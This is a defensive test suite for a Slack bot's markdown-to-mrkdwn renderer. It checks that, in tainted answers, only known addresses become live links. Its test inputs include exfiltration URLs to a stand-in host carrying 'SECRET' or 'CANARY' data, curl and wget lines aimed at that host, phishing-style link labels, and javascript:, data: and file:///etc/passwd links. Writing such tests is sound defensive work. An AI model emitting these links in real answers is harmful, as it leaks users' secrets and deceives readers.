"""Links show where they go; in a tainted answer only known addresses are live."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.render import IsLive, answer_drafts, limits, none_live, split, to_mrkdwn

KNOWN = "https://docs.example/guide?page=1&part=2"
EVIL = "evil.example/collect?d=SECRET"
GOOD = "https://good.com"
CODE = re.compile(r"```.*?```|(?<![^\W_])(?<!`)`[^`\n]+`(?!`|[^\W_])", re.DOTALL)
"""Slack reads single signs as code at the edges of words only."""
LINK = re.compile(r"<([^|>]+)\|[^>]*>")
BARE = re.compile(r"(?:https?://|mailto:)[^\s<>]+", re.IGNORECASE)
TRAILING = re.compile(r"(?:&gt;|[.,:;*_~|!)\]/\u200b])+$")


def live(text: str) -> set[str]:
    """The addresses of a post of which Slack makes links."""
    plain = CODE.sub(" ", text)
    found = LINK.findall(plain) + BARE.findall(LINK.sub(" ", plain))
    return {TRAILING.sub("", address) for address in found}


def only_good(url: str) -> bool:
    return url.rstrip("/") == GOOD


def shown(markdown: str) -> str:
    return "\n".join(draft.text for draft in answer_drafts(markdown, lambda url: url == KNOWN))


@pytest.mark.parametrize(
    "markdown",
    [
        f"[a free gift](https://{EVIL})", f"Look at https://{EVIL}.", f"(https://{EVIL})",
        f"<https://{EVIL}>", f"**https://{EVIL}**", f"[docs.example](http://{EVIL})",
        f"> quoted [x](https://{EVIL})", f"- https://{EVIL}\n- two",
        "[write](mailto:a@evil.example?body=SECRET)", f"![pixel](https://{EVIL})",
        f"HTTPS://{EVIL}",
    ],
)  # fmt: skip
def test_an_unknown_address_is_text_and_its_domain_is_seen(markdown: str) -> None:
    text = shown(markdown)
    assert not live(text), text
    assert "evil.example" in text


@pytest.mark.parametrize("markdown", [f"[the guide]({KNOWN})", f"See {KNOWN}.", f"<{KNOWN}>"])
def test_an_address_that_the_session_came_by_stays_live(markdown: str) -> None:
    assert "docs.example/guide?page=1&amp;part=2" in shown(markdown)
    assert "`" not in shown(markdown)


def test_code_stays_as_it_was_written() -> None:
    text = shown(f"`curl https://{EVIL}`\n\n```\nwget https://{EVIL}\n```")
    assert f"`curl https://{EVIL}`" in text
    assert f"wget https://{EVIL}" in text


MEETINGS = [
    "https:[//evil.com/x](https://other.com)", "https:[//evil.com/x](https://good.com)",
    "https:![//evil.com](x)", "# see https:**//evil.com/steal** now",
    "**a https:__//evil.com__ b**", "https://good.com.[evil.com/p](https://good.com)",
    "https://good.com.![evil.com](x)", "# https://good.com.**evil.com/x**",
    "https://good.com**/?d=SECRET**", "[mailto:a@evil.com](https://other.com)",
    "[https://evil.com](https://good.com)", "https:[//evil.com](javascript:x)",
    "https:<//evil.com>", "https:![](<>)//evil.com", "https:` `//evil.com",
    "_https://evil.com/x_", "*https:*//evil.com", "~~a https:~~//evil.com~~ b~~",
    "xhttps://evil.com and xhttps://https://evil.com", "https&#58;//evil.com",
    "https\\://evil.com", "https:\ufeff//evil.com", "htt\u202eps://evil.com",
    "https:\u200b//evil.com", "https://good.com\u200b.evil.com", "https://good.com|.evil.com",
    "https:\n//evil.com", "- https:\n  //evil.com\n- b", "> https:**//evil.com**",
    "| a |\n|---|\n| https:**//evil.com** |", "| ``` |\n|---|\n| https://evil.com |",
    "x`https://evil.com`y", "`a`https://evil.com`b`", "# `https://evil.com`**a** b",
    "\\` `https://evil.com`", "`````` \na\n`````\nhttps://evil.com\n``````",
    "- a\n  ```\n  https://evil.com\n  ```", "[" * 2001 + "https://evil.com",
]  # fmt: skip


@pytest.mark.parametrize("markdown", MEETINGS)
@pytest.mark.parametrize(("is_live", "known"), [(none_live, set[str]()), (only_good, {GOOD})])
def test_no_address_becomes_live_where_parts_of_a_text_meet(
    markdown: str, is_live: IsLive, known: set[str]
) -> None:
    for draft in answer_drafts(markdown, is_live):
        assert live(draft.text) <= known, draft.text


@pytest.mark.parametrize(
    "markdown",
    [
        "`" + "a" * (limits.TEXT_CHARS + 9) + " https://evil.com`",
        "a " * (limits.TEXT_CHARS // 2 - 9) + "`curl https://evil.com --and more`",
        "- ```\n" + "  a https://evil.com\n" * 400 + "  ```",
        "a" * (limits.TEXT_CHARS - len(GOOD)) + f"{GOOD}",
        f"`{'a ' * limits.TEXT_CHARS}` `https://evil.com`",
    ],
)
def test_no_cut_makes_an_address_live(markdown: str) -> None:
    """Neither of a long answer, nor of a post that Slack refuses."""
    for draft in answer_drafts(markdown, only_good):
        for part in (draft.text, *split(draft.text, limits.TEXT_CHARS // 3)):
            assert live(part) <= {GOOD}, part


PARTS = st.sampled_from([
    "https:", "http", "s", ":", "//", "mailto:", "a@", "evil.com", "good.com", ".", GOOD, "/",
    "**", "*", "_", "__", "~~", "[", f"]({GOOD})", "](https://other.com)", "![", "](x)", "`",
    "``", "\\`", "\\", "<", ">", "|", "\n", "\n\n", " ", "# ", "- ", "> ", "\n```\n", "&#58;",
    "\ufeff", "\u200b", "a" * 40, "|\n|-|-|\n|",
])  # fmt: skip


@given(st.lists(PARTS, max_size=30))
def test_whatever_a_text_is_made_of_only_what_is_known_is_live(parts: list[str]) -> None:
    for part in split(to_mrkdwn("".join(parts), only_good), 200):
        assert live(part) <= {GOOD}, part


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("[report](https://a.test/x?y=1&z=2)", "<https://a.test/x?y=1&amp;z=2|report> (a.test)"),
        ("<https://a.test/x>", "<https://a.test/x|https://a.test/x>"),
        ("[a.test](https://a.test/x)", "<https://a.test/x|a.test>"),
        ("[www.a.test news](https://a.test)", "<https://a.test|www.a.test news>"),
        ("[Ann](mailto:ann@a.test)", "<mailto:ann@a.test|Ann> (a.test)"),
        ("[x|y](https://a.test)", "<https://a.test|x¦y> (a.test)"),
        ("[**bold** label](https://a.test)", "<https://a.test|bold label> (a.test)"),
        ("[](https://a.test/x)", "<https://a.test/x|a.test>"),
        ("![a chart](https://a.test/c.png)", "a chart (`a.test/c.png`)"),
    ],
)
def test_a_link_shows_where_it_goes(markdown: str, shown: str) -> None:
    assert to_mrkdwn(markdown) == shown


@pytest.mark.parametrize(
    "markdown",
    [
        "[bank.example](https://evil.example/login)",
        "[https://bank.example/login](https://evil.example/login)",
        "[log in at bank.example now](https://evil.example/login)",
        "[bank.example](https://bank.example@evil.example/login)",
        "[bank.example](https://bank.example.evil.example/login)",
    ],
)
def test_a_label_cannot_pretend_to_be_another_host(markdown: str) -> None:
    label = to_mrkdwn(markdown).partition("|")[2].partition(">")[0]

    assert "evil.example" in label
    assert not label.startswith("bank.example/")


@pytest.mark.parametrize(
    "markdown",
    [
        "[x](javascript:alert(1))",
        "[x](data:text/html,hi)",
        "[x](file:///etc/passwd)",
        "[x](slack://channel?id=C1)",
        "[x](//evil.example)",
        "![secret](https://evil.example/p.png?d=CANARY)",
    ],
)
def test_what_is_no_plain_web_link_is_not_live(markdown: str) -> None:
    assert "<" not in to_mrkdwn(markdown)


def test_an_address_cannot_break_out_of_its_link() -> None:
    rendered = to_mrkdwn("[x](<https://a.test/|b> <!channel>)")

    assert "<!channel>" not in rendered
